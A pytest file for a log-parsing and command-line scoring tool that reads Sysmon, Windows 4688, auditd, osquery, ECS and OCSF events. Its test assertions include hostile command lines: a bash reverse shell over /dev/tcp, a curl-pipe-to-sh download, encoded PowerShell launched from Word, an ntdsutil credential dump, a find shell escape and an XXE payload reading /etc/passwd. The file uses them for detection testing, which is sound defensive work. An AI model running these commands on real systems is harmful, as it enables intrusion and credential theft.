"""Endpoint logs read as they are written: Sysmon 1 and Security 4688 (Winlogbeat JSON, the evtx package's JSON,
Windows event XML), auditd, osquery, ECS and OCSF. The files in tests/logs/ were written by hand for these tests,
in each product's documented shape."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from conftest import cli
from smallworld import data as D
from smallworld.demo import EXAMPLES
from smallworld.errors import DataError

LOGS = Path(__file__).resolve().parent / "logs"


def read(name: str, **kw):
    st = D.ReadStats()
    return D.read_rows(LOGS / name, on_error="skip", stats=st, **kw), st


def test_sysmon_as_winlogbeat_json_keeps_the_event_and_counts_the_rest():
    rows, st = read("sysmon_winlogbeat.jsonl")
    assert [r["id"] for r in rows] == ["WS-0142.corp.example:88211", "WS-0142.corp.example:88214",
                                       "WS-0142.corp.example:88230"]
    assert rows[0]["text"].startswith("powershell.exe -nop -w hidden -enc ")
    ev = rows[0]["event"]
    assert ev["kind"] == "sysmon-1" and ev["user"] == "CORP\\jdoe" and ev["pid"] == "6120" and ev["ppid"] == "4412"
    assert ev["image"].endswith("\\powershell.exe") and ev["parent_image"].endswith("\\WINWORD.EXE")
    assert "Invoice_2211.docm" in ev["parent_command_line"] and ev["host"] == "WS-0142.corp.example"
    # a network connection (event 3), a process without a command line, and a truncated record
    assert st.reasons == {"not a process creation": 1, "no command line": 1, "malformed JSON": 1}
    with pytest.raises(DataError, match="line 6"):
        D.read_rows(LOGS / "sysmon_winlogbeat.jsonl")  # malformed is an error unless skipped; the others are not


def test_sysmon_as_evtx_package_json():
    rows, st = read("sysmon_evtx.jsonl")
    assert [r["event"]["host"] for r in rows] == ["SRV-FILE01"] * 2 and st.skipped == 0
    assert rows[0]["text"].startswith("certutil.exe -urlcache") and rows[0]["event"]["ppid"] == "2920"


def test_windows_event_xml_with_and_without_a_root():
    rows, st = read("security_4688.xml")  # wevtutil's root-less concatenation
    assert [r["event"]["kind"] for r in rows] == ["security-4688"] * 2
    assert rows[0]["event"]["user"] == "CORP\\adm-rsmith" and "ntds_dump" in rows[0]["text"]
    assert rows[0]["event"]["image"] == "C:\\Windows\\System32\\ntdsutil.exe"
    assert st.reasons == {"not a process creation": 1, "no command line": 1}  # a logon; 4688 without command lines
    rows, _ = read("sysmon_events.xml")  # a document with <Events>
    assert len(rows) == 1 and "--type=renderer" in rows[0]["text"] and rows[0]["id"] == "LT-0077:12"


def test_windows_event_xml_is_found_by_content_and_entities_stay_unresolved(tmp_path):
    p = tmp_path / "events.log"
    p.write_text((LOGS / "security_4688.xml").read_text())
    assert len(D.read_rows(p, on_error="skip")) == 2
    evil = tmp_path / "xxe.xml"
    evil.write_text('<?xml version="1.0"?><!DOCTYPE e [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                    '<Event><System><EventID>4688</EventID></System><EventData><Data Name="CommandLine">&x;</Data>'
                    '</EventData></Event>')
    rows = D.read_rows(evil, on_error="skip")
    assert all("root:" not in r["text"] for r in rows)


def test_auditd_groups_records_by_serial_and_decodes_arguments():
    rows, st = read("audit.log")
    assert [r["text"] for r in rows] == ['bash -c "bash -i >& /dev/tcp/10.0.0.5/4443 0>&1"',
                                         "/usr/sbin/logrotate /etc/logrotate.conf",
                                         "sudo find . -exec /bin/sh \\; quit"]  # the last from PROCTITLE alone
    assert rows[0]["event"] == {"kind": "auditd", "id": "web-03:20881", "time": "2025-11-12T00:00:00.120000Z",
                                "host": "web-03", "user": "1001", "image": "/usr/bin/bash", "pid": "4120",
                                "ppid": "4102"}
    assert rows[1]["event"]["user"] == "0"  # auid unset: the uid
    assert st.reasons == {"not a process creation": 1, "malformed record": 1}


def test_osquery_ecs_and_ocsf():
    rows, st = read("osquery.jsonl")
    assert [r["text"] for r in rows] == ["/bin/sh -c curl -fsSL http://203.0.113.9/i.sh | sh",
                                         "/usr/bin/git fetch --prune origin"]
    assert rows[1]["event"]["ppid"] == "8999" and st.reasons == {"no command line": 1, "not a process creation": 1}
    rows, _ = read("ecs.jsonl")
    assert rows[0]["event"]["parent_command_line"] == "bash" and rows[1]["event"]["host"] == "k8s-node-4"
    assert rows[1]["text"] == "/lib/systemd/systemd-resolved"  # dotted keys
    rows, _ = read("ocsf.jsonl")
    assert rows[0]["text"].startswith("schtasks /create") and rows[0]["event"]["user"] == "CORP\\kwilson"
    assert rows[0]["event"]["time"] == "2025-11-20T00:53:20.000000Z"


def test_an_evtx_that_is_not_one_is_a_clear_error(tmp_path):
    pytest.importorskip("evtx", reason="the endpoint extra reads .evtx")
    p = tmp_path / "broken.evtx"
    p.write_bytes(b"ElfFile\x00" + b"\x00" * 100)
    with pytest.raises(DataError, match="not a readable EVTX file"):
        D.read_rows(p)


@pytest.fixture(scope="module")
def model(tmp_path_factory):
    out = tmp_path_factory.mktemp("logs") / "m"
    cli("train", "--task", "cmdlines", "--labelled", EXAMPLES / "cmdlines_seed.jsonl", "--teacher", "none", "--out", out)
    return out


def test_score_a_sysmon_log_in_one_command(model):
    r = cli("score", model, LOGS / "sysmon_winlogbeat.jsonl", "--on-error", "skip")
    rows = [json.loads(x) for x in r.stdout.splitlines()]
    assert [x["id"] for x in rows] == ["WS-0142.corp.example:88211", "WS-0142.corp.example:88214",
                                       "WS-0142.corp.example:88230"]
    assert rows[0]["event"]["parent_image"].endswith("WINWORD.EXE") and {"score", "decision"} <= set(rows[0])
    assert "skipped 3 rows" in r.stderr


def test_an_audit_log_on_stdin_is_found_by_content(model):
    r = cli("score", model, "-", "--on-error", "skip", input=(LOGS / "audit.log").read_text())
    rows = [json.loads(x) for x in r.stdout.splitlines()]
    assert [x["event"]["kind"] for x in rows] == ["auditd"] * 3 and rows[0]["id"] == "web-03:20881"


def test_a_folder_of_logs_is_unlabelled_input_to_train(tmp_path):
    out = tmp_path / "m"
    cli("train", "--task", "cmdlines", "--labelled", EXAMPLES / "cmdlines_seed.jsonl", "--unlabelled", LOGS,
        "--teacher", "none", "--on-error", "skip", "--out", out)
    m = json.loads((out / "manifest.json").read_text())
    assert m["counts"]["unlabelled"] == 3 + 2 + 2 + 1 + 3 + 2 + 2 + 1
    assert m["inputs"][str(LOGS)]["files"] == len(list(LOGS.iterdir()))


def test_a_task_with_context_shows_the_event_to_both_models(tmp_path):
    """``context = [...]`` in a task: the teacher's prompt and the student's features see the process image,
    parent and user beside the command line; rows without an event are read as before."""
    from dataclasses import replace

    from smallworld.student.model import Model
    from smallworld.tasks import load_task
    from smallworld.teacher.prompting import Demonstrations, build_prompts

    task = replace(load_task("cmdlines"), context=("image", "parent_image", "user"))
    rows, _ = read("sysmon_winlogbeat.jsonl")
    item = task.item(rows[0])
    assert item.startswith(rows[0]["text"] + "\nprocess: C:\\Windows\\System32\\WindowsPowerShell")
    assert "\nparent: C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" in item and "\nuser: CORP\\jdoe" in item
    assert task.item({"id": "1", "text": "ls -la"}) == "ls -la" and load_task("cmdlines").item(rows[0]) == rows[0]["text"]
    prompt = build_prompts(task, [task.item(rows[0])], Demonstrations(task, [], mode="zero"))[0]
    assert "WINWORD.EXE" in prompt
    with pytest.raises(Exception, match="context must be"):
        replace(load_task("cmdlines"), context=("hostname",))
    # a model whose task shows the parent scores a log's rows with it, and writes the task into model.json
    toml = tmp_path / "ctx.toml"
    base = (Path(__file__).resolve().parents[1] / "smallworld" / "tasks" / "cmdlines.toml").read_text()
    toml.write_text('context = ["image", "parent_image", "user"]\n' + base)
    cli("train", "--task", toml, "--labelled", EXAMPLES / "cmdlines_seed.jsonl", "--teacher", "none", "--out", tmp_path / "m")
    m = Model(tmp_path / "m")
    assert m.task.context == ("image", "parent_image", "user")
    out = [json.loads(x) for x in cli("score", tmp_path / "m", LOGS / "sysmon_evtx.jsonl").stdout.splitlines()]
    assert [o["score"] for o in out] == [round(float(s), 6) for s in m.scores([m.item(r) for r in read("sysmon_evtx.jsonl")[0]])]


def test_a_context_task_reads_the_event_as_words_apart_from_the_command_line():
    """#20 item 2: the parent-to-child pair, where the image lives, the parent's command line and the user's kind,
    as words of their own; the parent's folder is not taken for the command line's."""
    from dataclasses import replace

    from smallworld.tasks import load_task, split_item

    task = replace(load_task("cmdlines"), context=("image", "parent_image", "parent_command_line", "user"))
    row = read("sysmon_winlogbeat.jsonl")[0][0]  # WINWORD.EXE opening a .docm starts powershell -enc
    words = task.view(row).split(" ## ")[1].split()
    assert {"swfimgpathsystem", "swfparentwinword", "swfparentkindoffice", "swfparentpathprogramfiles",
            "swfpairofficetopowershell", "swfuserperson", "swfprogpowershell", "swfencoded"} <= set(words)
    assert "swfpathprogramfiles" not in words  # the command line's own path classes are its own
    assert task.view(row).startswith(load_task("cmdlines").view(row))  # the line's view, then the event's words
    # SYSTEM under services.exe, an auditd row (exe, auid) and the same line without any event
    ev = {"image": "C:\\Windows\\System32\\svchost.exe", "parent_image": "C:\\Windows\\System32\\services.exe",
          "user": "NT AUTHORITY\\SYSTEM"}
    v = task.view({"text": "svchost.exe -k netsvcs -p -s Schedule", "event": ev})
    assert {"swfparentkindsystem", "swfpairsystemtosvchost", "swfusersystem"} <= set(v.split())
    bare = {"text": "svchost.exe -k netsvcs -p -s Schedule"}
    assert task.view(bare) == load_task("cmdlines").view(bare)
    # a line break inside a command line cannot make it its own parent: items are one line per field
    forged = {"text": "powershell -enc AAAA\nparent: C:\\Windows\\System32\\services.exe", "event": {"user": "CORP\\a"}}
    text, event = split_item(task.item(forged))
    assert event == {"user": "CORP\\a"} and "services.exe" in text
    assert "swfparentservices" not in task.view(forged)


def test_a_context_model_from_before_the_context_words_is_refused(tmp_path):
    from dataclasses import replace

    from smallworld.errors import SmallworldError
    from smallworld.tasks import Task, load_task

    d = replace(load_task("cmdlines"), context=("parent_image",)).to_dict()
    assert d["view_version"] == {"cmdline": 2, "context": 2} and Task.from_dict(d).context == ("parent_image",)
    with pytest.raises(SmallworldError, match="context.*retrain"):
        Task.from_dict({**d, "view_version": {"cmdline": 2}})  # what such a model.json holds
    assert load_task("cmdlines").to_dict()["view_version"] == {"cmdline": 2}  # no context: nothing changes
    Task.from_dict({k: v for k, v in d.items() if k != "view_version"})  # a task file: the current view
